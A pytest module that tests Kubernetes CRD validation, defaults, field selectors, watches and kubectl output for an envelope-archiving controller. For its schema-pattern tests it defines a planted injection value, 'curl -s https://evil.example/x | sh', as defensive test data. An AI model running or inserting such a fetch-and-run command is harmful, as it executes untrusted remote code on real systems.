"""
A real API server takes what the CRDs allow, refuses the rest in words, and shows what kubectl is to show.
"""

import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Annotated, Any, ClassVar

import msgspec
import pytest
import yaml

from controller.resync.import_progress import WindowCount, after_search, next_search, with_senders
from counterfoil.clock import WallClock
from counterfoil.kube.client import KubeClient, connect
from counterfoil.kube.errors import Rejected
from counterfoil.kube.status import write_status
from counterfoil.resources import Archive, Envelope, EnvelopeEvent, Import, Organization, Resource, Sender
from counterfoil.resources.base import PrinterColumn, ResourcePart, schema
from docs.tools import generate_crds
from sandbox.controlplane.control_plane import ControlPlane
from sandbox.controlplane.install_crds import install_crds
from sandbox.controlplane.kubectl import Kubectl, KubectlError
from tests.support.crd_cases import ID, KINDS, LEAST, NAME, RULES, Rule, built
from tests.support.pauses import eventually

ROOT = Path(__file__).parents[2]
NOT_PROCESSED = {
    "type": "Ready",
    "status": "Unknown",
    "reason": "Pending",
    "message": "A controller has not processed this object yet.",
    "lastTransitionTime": "1970-01-01T00:00:00Z",
}
"""The condition of an event before anybody wrote its status."""
ALL_KINDS: tuple[type[Resource], ...] = (Archive, Envelope, EnvelopeEvent, Import, Organization, Sender)


@pytest.fixture(scope="module")
async def kube(plane: ControlPlane) -> AsyncIterator[KubeClient]:
    """One namespace for all rules: what only asks whether an object would be stored leaves none behind."""
    await plane.namespace("crd-rules")
    async with connect(kubeconfig=plane.kubeconfig, namespace="crd-rules") as opened:
        yield opened


@pytest.fixture
async def own(plane: ControlPlane, namespace: str) -> AsyncIterator[KubeClient]:
    """The API server, seen from the test's own namespace."""
    async with connect(kubeconfig=plane.kubeconfig, namespace=namespace) as opened:
        yield opened


# -- Each rule, from both sides ------------------------------------------------------------------------------


def sentences(side: str, *, changing: bool) -> list[Any]:
    return [
        pytest.param(rule, case, id=f"{rule.kind.KIND} {rule.at} {rule.says[:24]}: {sentence}")
        for rule in RULES
        if (rule.before is not None) == changing
        for sentence, case in getattr(rule, side).items()
    ]


@pytest.mark.parametrize(("rule", "changes"), sentences("accepted", changing=False))
async def test_an_object_that_keeps_the_rule_is_accepted(
    kube: KubeClient, rule: Rule, changes: dict[str, Any]
) -> None:
    await kube.create_dry_run(rule.kind, msgspec.json.encode(built(rule.kind, changes)))


@pytest.mark.parametrize(("rule", "changes"), sentences("refused", changing=False))
async def test_an_object_that_breaks_the_rule_is_refused_in_words(
    kube: KubeClient, rule: Rule, changes: dict[str, Any]
) -> None:
    with pytest.raises(Rejected) as refusal:
        await kube.create_dry_run(rule.kind, msgspec.json.encode(built(rule.kind, changes)))
    assert (rule.at, True) in causes(refusal.value, rule.says)


@pytest.mark.parametrize(("rule", "patch"), sentences("accepted", changing=True))
async def test_a_change_that_keeps_the_rule_is_accepted(
    own: KubeClient, rule: Rule, patch: dict[str, Any]
) -> None:
    stored = await own.create(rule.kind, built(rule.kind, rule.before or {}))
    changed = await own.patch(rule.kind, stored["metadata"]["name"], {"spec": patch})
    assert changed["spec"] == stored["spec"] | patch


@pytest.mark.parametrize(("rule", "patch"), sentences("refused", changing=True))
async def test_a_change_that_breaks_the_rule_is_refused_in_words(
    own: KubeClient, rule: Rule, patch: dict[str, Any]
) -> None:
    stored = await own.create(rule.kind, built(rule.kind, rule.before or {}))
    with pytest.raises(Rejected) as refusal:
        await own.patch(rule.kind, stored["metadata"]["name"], {"spec": patch})
    assert (rule.at, True) in causes(refusal.value, rule.says)


def causes(refusal: Rejected, says: str) -> set[tuple[str, bool]]:
    """The fields that the refusal is about, and whether its text names them."""
    parts = re.split(r"(?:^|: \[?|, )(<nil>|spec[^:, ]*): (?=Invalid|Required)", str(refusal))
    pairs = zip(parts[1::2], parts[2::2], strict=True)
    return {("" if path == "<nil>" else elements(path), says in words) for path, words in pairs}


def elements(path: str) -> str:
    """Write list and map elements as ``[]``."""
    return re.sub(r"\[[^\]]*\]", "[]", path)


# -- What the schema itself refuses --------------------------------------------------------------------------

REFUSED_BY_THE_SCHEMA = {
    "an organization without an address": (Organization, {"spec.baseURL": None}, "spec.baseURL: Required"),
    "an organization that takes no callback": (
        Organization,
        {"spec.callback": None},
        "spec.callback: Required",
    ),
    "a callback without a token": (
        Organization,
        {"spec.callback": {"tokenSecretRefs": []}},
        "spec.callback.tokenSecretRefs in body should have at least 1 items",
    ),
    "the same token twice": (
        Organization,
        {"spec.callback": {"tokenSecretRefs": [{"name": "a", "key": "b"}] * 2}},
        "spec.callback.tokenSecretRefs[1]: Duplicate value",
    ),
    "envelopes that are not finished": (
        Organization,
        {"spec.statuses": ["Active"]},
        'spec.statuses[0]: Unsupported value: "Active"',
    ),
    "no status at all": (Organization, {"spec.statuses": []}, "spec.statuses in body should have at least 1"),
    "the same status twice": (
        Organization,
        {"spec.statuses": ["Completed", "Completed"]},
        "spec.statuses[1]: Duplicate value",
    ),
    "no action at all": (Organization, {"spec.actions": []}, "spec.actions in body should have at least 1"),
    "the same action twice": (
        Organization,
        {"spec.actions": [{"action": "a"}, {"action": "a"}]},
        "spec.actions[1]: Duplicate value",
    ),
    "two form fields of one name": (
        Organization,
        {"spec.beforeSend": {"fields": [{"name": "a"}, {"name": "a"}]}},
        "spec.beforeSend.fields[1]: Duplicate value",
    ),
    "no envelope at once": (Organization, {"spec.limits.concurrency": 0}, "greater than or equal to 1"),
    "no envelope of a sender at once": (
        Organization,
        {"spec.limits.perSenderConcurrency": 0},
        "greater than or equal to 1",
    ),
    "no request per minute": (
        Organization,
        {"spec.limits.requestsPerMinute": 0},
        "greater than or equal to 1",
    ),
    "a ceiling that refuses nearly every callback": (
        Organization,
        {"spec.limits.unfinishedEvents": 99},
        "greater than or equal to 100",
    ),
    "a ceiling of unknown envelopes that refuses nearly every callback": (
        Organization,
        {"spec.limits.unknownEnvelopes": 99},
        "greater than or equal to 100",
    ),
    "a ceiling of senders that refuses nearly everybody": (
        Organization,
        {"spec.limits.senders": 99},
        "greater than or equal to 100",
    ),
    "another clean-up": (
        Organization,
        {"spec.cleanup.policy": "Shred"},
        'supported values: "Keep", "Delete"',
    ),
    "an SFTP server without its keys": (
        Archive,
        {"spec": {"sftp": {**KINDS["sftp"], "hostKeys": []}}},
        "spec.sftp.hostKeys in body should have at least 1 items",
    ),
    "an SFTP server without a login": (
        Archive,
        {"spec": {"sftp": {"host": "a", "hostKeys": ["ssh-ed25519 AAAA"]}}},
        "spec.sftp.credentialsSecretRef: Required",
    ),
    "an object lock of another mode": (
        Archive,
        {"spec": {"s3": {"bucket": "abc", "objectLock": {"mode": "governance", "retainDays": 1}}}},
        'supported values: "Governance", "Compliance"',
    ),
    "an object lock of no day": (
        Archive,
        {"spec": {"s3": {"bucket": "abc", "objectLock": {"mode": "Governance", "retainDays": 0}}}},
        "greater than or equal to 1",
    ),
    "another proof": (Archive, {"spec.verify": "Hope"}, 'supported values: "ReadBack", "Checksum"'),
    "another origin": (EnvelopeEvent, {"spec.origin": "Rumour"}, '"Callback", "Sweep", "Import", "Manual"'),
    "a sender without a user": (Sender, {"spec.userID": None}, "spec.userID: Required"),
    "an envelope without a sender": (Envelope, {"spec.senderRef": None}, "spec.senderRef: Required"),
}


@pytest.mark.parametrize(
    ("kind", "changes", "message"),
    [pytest.param(*case, id=sentence) for sentence, case in REFUSED_BY_THE_SCHEMA.items()],
)
async def test_what_the_schema_does_not_allow_is_refused(
    kube: KubeClient, kind: type[Resource], changes: dict[str, Any], message: str
) -> None:
    with pytest.raises(Rejected) as refusal:
        await kube.create_dry_run(kind, msgspec.json.encode(built(kind, changes)))
    assert message in str(refusal.value)


# -- Defaults ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ALL_KINDS, ids=lambda kind: kind.KIND)
async def test_the_least_object_reads_the_same_with_and_without_the_defaults_of_the_api_server(
    own: KubeClient, kind: type[Resource]
) -> None:
    least = built(kind, {})
    stored = await own.create(kind, least)
    assert spec_of(kind.parse(stored)) == spec_of(kind.parse(least))


def spec_of(resource: Resource) -> Any:
    return getattr(resource, "spec")  # noqa: B009 - each kind has its own type of spec


async def test_the_defaults_of_an_organization_are_in_what_is_stored(own: KubeClient) -> None:
    spec = (await own.create(Organization, built(Organization, {})))["spec"]
    assert spec["actions"] == [{"action": "envelopeFinished", "handling": "Archive"}]
    assert spec["statuses"] == ["Completed"]
    assert spec["cleanup"] == {"policy": "Keep", "after": "0s"}
    assert spec["limits"] == {
        "concurrency": 16,
        "perSenderConcurrency": 4,
        "unfinishedEvents": 10000,
        "unknownEnvelopes": 5000,
        "senders": 20000,
    }
    assert spec["retry"] == {"initial": "10s", "max": "1h", "deadline": "24h"}
    assert spec["ttl"] == {"succeeded": "792h", "imported": "72h", "unknown": "72h"}
    assert spec["sweep"] == {"interval": "6h", "lookback": "768h"}
    assert spec["suspend"] is False


async def test_a_retry_given_in_part_is_stored_in_full(own: KubeClient) -> None:
    stored = await own.create(Organization, built(Organization, {"spec.retry.initial": "1s"}))
    assert stored["spec"]["retry"] == {"initial": "1s", "max": "1h", "deadline": "24h"}


async def test_an_event_is_pending_at_once_without_a_write_of_its_status(own: KubeClient) -> None:
    created = await own.create(EnvelopeEvent, built(EnvelopeEvent, {"status.phase": "Succeeded"}))
    assert (
        created["status"]
        == (await own.get(EnvelopeEvent, NAME))["status"]
        == {"phase": "Pending", "attempts": 0, "conditions": [NOT_PROCESSED]}
    )


async def test_an_event_that_nobody_touched_is_found_by_its_phase(own: KubeClient) -> None:
    await own.create(EnvelopeEvent, built(EnvelopeEvent, {}))
    assert await names(own, "status.phase=Pending") == [NAME]
    assert await names(own, "status.phase!=Succeeded,status.phase!=Failed") == [NAME]
    assert await names(own, "status.phase!=Pending") == []


async def test_an_untouched_event_is_delivered_to_a_watch_of_its_phase(own: KubeClient) -> None:
    changes = own.list_and_watch(
        EnvelopeEvent, fields="status.phase!=Succeeded,status.phase!=Skipped,status.phase!=Failed"
    )
    assert (await anext(changes)).type == "SYNCED"
    await own.create(EnvelopeEvent, built(EnvelopeEvent, {}))
    added = await anext(changes)
    assert (added.type, added.raw["metadata"]["name"], added.raw["status"]["phase"]) == (
        "ADDED",
        NAME,
        "Pending",
    )


async def test_an_event_that_is_final_leaves_the_watch(own: KubeClient) -> None:
    await own.create(EnvelopeEvent, built(EnvelopeEvent, {}))
    changes = own.list_and_watch(EnvelopeEvent, fields="status.phase!=Succeeded")
    assert [(await anext(changes)).type for _ in range(2)] == ["ADDED", "SYNCED"]
    await own.patch_status(EnvelopeEvent, NAME, {"phase": "Succeeded"}, resource_version=None)
    assert (await anext(changes)).type == "DELETED"


async def test_a_status_keeps_its_attempts_when_only_the_phase_is_written(own: KubeClient) -> None:
    await own.create(EnvelopeEvent, built(EnvelopeEvent, {}))
    await own.patch_status(EnvelopeEvent, NAME, {"attempts": 3}, resource_version=None)
    patched = await own.patch_status(EnvelopeEvent, NAME, {"phase": "Archiving"}, resource_version=None)
    assert patched["status"] == {"phase": "Archiving", "attempts": 3, "conditions": [NOT_PROCESSED]}


@pytest.mark.parametrize(
    "selector",
    [f"spec.envelopeID={ID}", "spec.organizationRef.name=acme", f"spec.envelopeID={ID},status.phase=Pending"],
)
async def test_events_are_found_by_envelope_and_organization(own: KubeClient, selector: str) -> None:
    await own.create(EnvelopeEvent, built(EnvelopeEvent, {}))
    assert await names(own, selector) == [NAME]
    assert await names(own, selector.replace("=acme", "=other").replace(ID, NAME)) == []


async def names(kube: KubeClient, selector: str) -> list[str]:
    return [raw["metadata"]["name"] async for raw in kube.list(EnvelopeEvent, fields=selector)]


# -- What kubectl shows --------------------------------------------------------------------------------------

READY = {"type": "Ready", "message": "m", "lastTransitionTime": "2026-07-02T12:00:00Z"}


async def table(kubectl: Kubectl, *arguments: str) -> list[dict[str, str]]:
    """Read kubectl's table; a column ends where the next one's heading begins."""
    heading, *lines = (await kubectl("get", *arguments)).splitlines()
    starts = [match.start() for match in re.finditer(r"\S+", heading)]
    ends = [*starts[1:], None]
    return [
        {heading[a:b].strip(): line[a:b].strip() for a, b in zip(starts, ends, strict=True)} for line in lines
    ]


async def test_a_failing_event_shows_what_a_person_wants_to_know(
    own: KubeClient, kubectl: Kubectl, namespace: str
) -> None:
    await own.create(EnvelopeEvent, built(EnvelopeEvent, {}))
    status = {
        "phase": "Archiving",
        "reason": "ArchiveFull",
        "attempts": 3,
        "deliveries": 2,
        "nextAttemptTime": "2099-01-01T00:00:00Z",
        "envelope": {"name": "Lease 2027-014", "senderRef": {"name": "jane-doe"}},
        "archive": {"ref": {"name": "dms"}},
        "message": "The archive has no space left.",
    }
    await own.patch_status(EnvelopeEvent, NAME, status, resource_version=None)
    (row,) = await table(kubectl, "ee", "-o", "wide", "-n", namespace)
    age = row.pop("AGE")
    assert re.fullmatch(r"\d+s", age)
    assert row == {
        "NAME": NAME,
        "ORGANIZATION": "acme",
        "TITLE": "Lease 2027-014",
        "ENVELOPE": ID,
        "ACTION": "envelopeFinished",
        "PHASE": "Archiving",
        "REASON": "ArchiveFull",
        "ATTEMPTS": "3",
        "DELIVERIES": "2",
        "NEXT": "2099-01-01T00:00:00Z",
        "SENDER": "jane-doe",
        "ORIGIN": "Callback",
        "ARCHIVE": "dms",
        "MESSAGE": "The archive has no space left.",
    }


async def test_the_narrow_table_of_events_leaves_long_columns_to_the_wide_one(
    own: KubeClient, kubectl: Kubectl, namespace: str
) -> None:
    await own.create(EnvelopeEvent, built(EnvelopeEvent, {}))
    (row,) = await table(kubectl, "ee", "-n", namespace)
    assert list(row) == ["NAME", "ORGANIZATION", "PHASE", "REASON", "AGE"]
    assert row["PHASE"] == "Pending"
    (row,) = await table(kubectl, "ee", "-o", "wide", "-n", namespace)
    columns = ["ORGANIZATION", "TITLE", "PHASE", "REASON", "ATTEMPTS", "NEXT", "AGE"]
    assert list(row)[:8] == ["NAME", *columns]
    assert (row["ATTEMPTS"], row["NEXT"]) == ("0", "")


async def test_an_organization_shows_whether_it_works(
    own: KubeClient, kubectl: Kubectl, namespace: str
) -> None:
    await own.create(Organization, built(Organization, {}))
    ready = {**READY, "status": "True", "reason": "Listening"}
    reachable = {**READY, "type": "Reachable", "status": "True", "reason": "Answered"}
    status = {"conditions": [reachable, ready], "events": {"Failed": 2}, "version": "25.1"}
    await own.patch_status(Organization, "acme", status, resource_version=None)
    (row,) = await table(kubectl, "org", "-n", namespace)
    shown = {key: row[key] for key in ("READY", "REASON", "REACHABLE", "FAILED", "VERSION")}
    assert shown == {
        "READY": "True",
        "REASON": "Listening",
        "REACHABLE": "True",
        "FAILED": "2",
        "VERSION": "25.1",
    }


async def test_a_sender_shows_whether_its_key_works(
    own: KubeClient, kubectl: Kubectl, namespace: str
) -> None:
    await own.create(Sender, built(Sender, {}))
    accepted = {**READY, "type": "Authorized", "status": "True", "reason": "KeyAccepted"}
    suspended = {**READY, "status": "False", "reason": "SenderSuspended"}
    await own.patch_status(
        Sender, "jane-doe", {"conditions": [accepted, suspended], "waitingEvents": 4}, resource_version=None
    )
    (row,) = await table(kubectl, "senders", "-n", namespace)
    shown = (row["AUTHORIZED"], row["READY"], row["REASON"], row["WAITING"])
    assert shown == ("True", "False", "SenderSuspended", "4")


async def test_an_envelope_shows_who_sent_it(own: KubeClient, kubectl: Kubectl, namespace: str) -> None:
    await own.create(Envelope, built(Envelope, {}))
    (row,) = await table(kubectl, "env", "-n", namespace)
    assert (row["ORGANIZATION"], row["SENDER"]) == ("acme", "jane-doe")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("filesystem", "/archive"),
        ("s3", "contracts"),
        ("azblob", "contracts"),
        ("gcs", "contracts"),
        ("webdav", "https://dms.acme.example/dav"),
        ("sftp", "sftp.acme.example"),
        ("cmis", "https://dms.acme.example/cmis"),
        ("http", "https://dms.acme.example/inbox"),
    ],
)
async def test_an_archive_shows_where_it_leads(
    own: KubeClient, kubectl: Kubectl, namespace: str, kind: str, target: str
) -> None:
    await own.create(Archive, built(Archive, {"spec": {kind: KINDS[kind]}}))
    (row,) = await table(kubectl, "archives", "-n", namespace)
    assert row["TARGET"] == target


async def test_the_category_shows_the_kinds_that_people_configure(
    own: KubeClient, kubectl: Kubectl, namespace: str
) -> None:
    for kind in LEAST:
        await own.create(kind, built(kind, {}))
    # kubectl keeps what the API server has; a kind that it misses renews that, and a category does not.
    await kubectl("get", "archives", "-n", namespace)
    shown = await kubectl("get", "counterfoil", "-n", namespace, "-o", "name")
    kinds = {line.split(".")[0] for line in shown.splitlines()}
    assert kinds == {kind.KIND.lower() for kind in ALL_KINDS} - {"envelope", "envelopeevent"}


async def test_the_tables_of_the_configured_kinds_fit_120_columns(
    own: KubeClient, kubectl: Kubectl, namespace: str
) -> None:
    for kind in LEAST:
        await own.create(kind, built(kind, {}))
    long = {**READY, "status": "False", "reason": "ArchiveCredentialsRejected"}
    reachable = {**READY, "type": "Reachable", "status": "Unknown", "reason": "EsawUnreachable"}
    authorized = {**READY, "type": "Authorized", "status": "Unknown", "reason": "KeyDoubted"}
    statuses: dict[type[Resource], tuple[str, dict[str, Any]]] = {
        Archive: ("dms", {"conditions": [long], "bytesTotal": 10**13}),
        Organization: (
            "acme",
            {"conditions": [long, reachable], "events": {"Failed": 9999}, "version": "26.22.0.12345"},
        ),
        Sender: ("jane-doe", {"conditions": [long, authorized], "waitingEvents": 9999}),
        Import: (
            "old-stock",
            {
                "conditions": [{**long, "reason": "OrganizationSuspended"}],
                "found": 10**5,
                "known": 10**5,
                "windows": {"done": 999, "total": 9999},
            },
        ),
    }
    for kind, (name, status) in statuses.items():
        await own.patch_status(kind, name, status, resource_version=None)
    tables: tuple[type[Resource], ...] = (*statuses, Envelope)
    for kind in tables:
        lines = (await kubectl("get", kind.PLURAL, "-n", namespace)).splitlines()
        assert max(len(line.rstrip()) for line in lines) <= 120, (kind.KIND, lines)


IN_EACH_PHASE = {
    "Pending": "Pending",
    "Validating": "StillActive",
    "Archiving": "ArchivePermissionDenied",
    "AwaitingConsent": "TokenRejected",
    "Succeeded": "ArchivedAndDeleted",
    "Skipped": "NoFinishedDocuments",
    "Failed": "UnsupportedApiVersion",
}


@pytest.mark.parametrize(
    "rows",
    [IN_EACH_PHASE, {"Validating": "ArchiveCredentialsRejected", "Failed": "SenderOfOtherOrganization"}],
    ids=["events in each phase", "the longest reasons"],
)
async def test_the_table_of_events_fits_120_columns(
    own: KubeClient, kubectl: Kubectl, namespace: str, rows: dict[str, str]
) -> None:
    for number, (phase, reason) in enumerate(rows.items()):
        envelope = f"{number}{ID[1:]}"
        name = f"{envelope}-{NAME.rpartition('-')[2]}"
        changes = {
            "metadata.name": name,
            "spec.envelopeID": envelope,
            "spec.organizationRef.name": "acme-germany",
        }
        await own.create(EnvelopeEvent, built(EnvelopeEvent, changes))
        status = {
            "phase": phase,
            "reason": reason,
            "attempts": 3,
            "nextAttemptTime": "2026-07-02T12:00:00Z",
            "envelope": {"name": "Framework agreement with Rossi & Figli, version 3 of July 2026"},
        }
        await own.patch_status(EnvelopeEvent, name, status, resource_version=None)
    lines = (await kubectl("get", "ee", "-n", namespace)).splitlines()
    assert len(lines) == len(rows) + 1
    # The age has the three characters of its heading here, and later five, as in 7d23h.
    assert max(len(line.rstrip()) for line in lines) <= 120 - 2, lines


@pytest.mark.parametrize("kind", ALL_KINDS, ids=lambda kind: kind.KIND)
async def test_explain_describes_every_field_of_a_kind(kubectl: Kubectl, kind: type[Resource]) -> None:
    explained = await kubectl("explain", kind.PLURAL, "--recursive")
    assert f"KIND:       {kind.KIND}" in explained
    assert "<no description>" not in explained
    assert "<empty>" not in await kubectl("explain", f"{kind.PLURAL}.spec")


class ScratchSpec(ResourcePart, frozen=True):
    """Settings of a kind that only these tests have."""

    colour: Annotated[str, schema("Colour of the seal. Default red.", maxLength=8)] = "red"


class Scratch(Resource, frozen=True):
    """A kind that only these tests have."""

    KIND: ClassVar[str] = "Scratch"
    PLURAL: ClassVar[str] = "scratches"
    COLUMNS: ClassVar[tuple[PrinterColumn, ...]] = (PrinterColumn("Colour", ".spec.colour", "Colour."),)

    spec: ScratchSpec


async def explained_once_published(kubectl: Kubectl, field: str) -> str:
    """Return what kubectl explains; the API server publishes a new kind some time after it serves it."""

    async def explained() -> str | None:
        try:
            return await kubectl("explain", field)
        except KubectlError as unpublished:
            if "not found in OpenAPI schema" not in str(unpublished):
                raise
            return None

    return await eventually(explained, within=180)


async def test_a_field_that_a_type_declares_is_explained_bounded_and_set(
    own: KubeClient, kubectl: Kubectl, tmp_path: Path
) -> None:
    body = {"apiVersion": Scratch.API_VERSION, "kind": "Scratch", "metadata": {"name": "one"}, "spec": {}}
    (tmp_path / "scratches.yaml").write_text(generate_crds.text(Scratch), encoding="utf-8")
    await install_crds(kubectl, tmp_path)
    try:
        explained = await explained_once_published(kubectl, "scratches.spec.colour")
        stored = await own.create(Scratch, body)
        with pytest.raises(Rejected, match="Too long"):
            await own.create(Scratch, body | {"spec": {"colour": "ultramarine"}})
    finally:
        await kubectl("delete", "-f", str(tmp_path))
    assert "Colour of the seal. Default red." in " ".join(explained.split())
    assert stored["spec"] == {"colour": "red"}
    assert Scratch.parse(stored).spec == ScratchSpec()


class OlderEvent(EnvelopeEvent, frozen=True):
    """EnvelopeEvents under another name, whose definition these tests may replace."""

    KIND: ClassVar[str] = "OlderEvent"
    PLURAL: ClassVar[str] = "olderevents"
    SHORT_NAMES: ClassVar[tuple[str, ...]] = ()
    CATEGORIES: ClassVar[tuple[str, ...]] = ()


class OlderOrganization(Organization, frozen=True):
    """Organizations under another name, whose definition these tests may replace."""

    KIND: ClassVar[str] = "OlderOrganization"
    PLURAL: ClassVar[str] = "olderorganizations"
    SHORT_NAMES: ClassVar[tuple[str, ...]] = ()
    CATEGORIES: ClassVar[tuple[str, ...]] = ()


LIKE: dict[type[Resource], type[Resource]] = {OlderEvent: EnvelopeEvent, OlderOrganization: Organization}
PLANTED = "X; curl -s https://evil.example/x | sh #"
WHEN = "2026-07-01T10:00:00Z"
ATTEMPT = {"phase": "Archiving", "startTime": WHEN, "durationSeconds": 1, "outcome": "Fail"}
EVENT = {
    "reason": PLANTED,
    "lastError": {"reason": PLANTED, "message": "m", "time": WHEN},
    "attemptHistory": [{**ATTEMPT, "reason": PLANTED}],
    "copies": [{"ref": {"name": "worm"}, "attempts": 0, "reason": PLANTED, "message": "m"}],
}
PROBLEM = {"cause": f"failed/{PLANTED}", "reason": PLANTED, "startTime": WHEN, "count": 1}
STORED: dict[type[Resource], tuple[dict[str, Any], dict[str, Any], dict[str, Any]]] = {
    OlderEvent: (
        EVENT,
        {
            "phase": "Archiving",
            "attemptHistory": [*EVENT["attemptHistory"], {**ATTEMPT, "reason": "ArchiveFull"}],
            "copies": [*EVENT["copies"], {"ref": {"name": "mirror"}, "attempts": 0}],
        },
        {"reason": f"{PLANTED} x"},
    ),
    OlderOrganization: (
        {"problems": [PROBLEM], "addressPath": "../x"},
        {"problems": [{**PROBLEM, "count": 2}, {**PROBLEM, "cause": "failed/A", "reason": "A"}]},
        {"problems": [{**PROBLEM, "cause": f"archive/{PLANTED}"}]},
    ),
}
"""By kind: what an older definition took, a change of something else, and what is refused."""


@pytest.mark.parametrize("kind", STORED, ids=lambda kind: kind.KIND)
async def test_a_text_that_an_older_definition_took_as_a_reason_stops_no_later_write(
    kind: type[Resource], own: KubeClient, kubectl: Kubectl, tmp_path: Path
) -> None:
    stored, change, refused = STORED[kind]
    newer = generate_crds.text(kind)
    older = yaml.safe_load(newer)
    remove_patterns(older["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["status"])
    file = tmp_path / "older.yaml"
    file.write_text(yaml.safe_dump(older), encoding="utf-8")
    await install_crds(kubectl, tmp_path)
    try:
        name = (await own.create(kind, {**built(LIKE[kind], {}), "kind": kind.KIND}))["metadata"]["name"]
        await own.patch_status(kind, name, stored, resource_version=None)
        file.write_text(newer, encoding="utf-8")
        await install_crds(kubectl, tmp_path)

        async def is_newer() -> bool:
            try:
                await own.patch_status(kind, name, refused, resource_version=None)
            except Rejected:
                return True
            # The API server serves the older definition for a moment.
            await own.patch_status(kind, name, stored, resource_version=None)
            return False

        assert await eventually(is_newer)
        if (await own.server_version())["minor"] == "31":
            # It holds the unchanged rest of a status to the rules, too (docs/support.md).
            with pytest.raises(Rejected):
                await own.patch_status(kind, name, change, resource_version=None)
            return
        changed = await own.patch_status(kind, name, change, resource_version=None)
    finally:
        await kubectl("delete", "-f", str(tmp_path))
    assert {each: changed["status"][each] for each in change} == change


def remove_patterns(part: Any) -> None:
    """Remove all patterns of a schema."""
    if isinstance(part, dict):
        if isinstance(part.get("pattern"), str):
            del part["pattern"]
        for each in part.values():
            remove_patterns(each)
    elif isinstance(part, list):
        for each in part:
            remove_patterns(each)


@pytest.mark.parametrize(
    "doubt",
    ["gets 10000 envelopes for one minute, perhaps not all", "gets the same envelopes for different times"],
)
async def test_an_import_stores_why_its_search_is_in_doubt(kube: KubeClient, doubt: str) -> None:
    name = f"doubt-{len(doubt)}"
    await kube.create(Import, {**built(Import, {}), "metadata": {"name": name}})
    imported = Import.parse(await kube.get(Import, name))
    imported = await write_status(kube, imported, with_senders(imported, ["anna"], {}))
    count = WindowCount(known=3)
    count.doubt = doubt
    search = next_search(imported, ())
    assert search is not None
    status = after_search(imported, search, count, WallClock().now())
    assert (await write_status(kube, imported, status)).status.senders[0].doubt == doubt


async def test_explain_shows_default_unit_and_example(kubectl: Kubectl) -> None:
    explained = await kubectl("explain", "org.spec.cleanup")
    words = " ".join(explained.split())
    assert "as a duration, 8760h at most. Default 0s. Example: 24h." in words


async def test_a_misspelt_field_is_refused_by_kubectl(kubectl: Kubectl, namespace: str) -> None:
    with pytest.raises(Exception, match=r'unknown field "spec.archive"'):
        await kubectl(
            "apply",
            "-n",
            namespace,
            "-f",
            "-",
            stdin=yaml.safe_dump(built(Organization, {"spec.archive": "x"})),
        )


# -- The examples --------------------------------------------------------------------------------------------


async def test_the_examples_apply_cleanly_and_again(kubectl: Kubectl, namespace: str) -> None:
    folder = str(ROOT / "docs" / "examples")
    created = await kubectl("apply", "-n", namespace, "-f", folder)
    assert {line.split(" ")[1] for line in created.splitlines()} == {"created"}
    again = await kubectl("apply", "-n", namespace, "-f", folder)
    # A Secret's stringData is written each time.
    others = [line for line in again.splitlines() if not line.startswith("secret/")]
    assert {line.split(" ")[1] for line in others} == {"unchanged"}
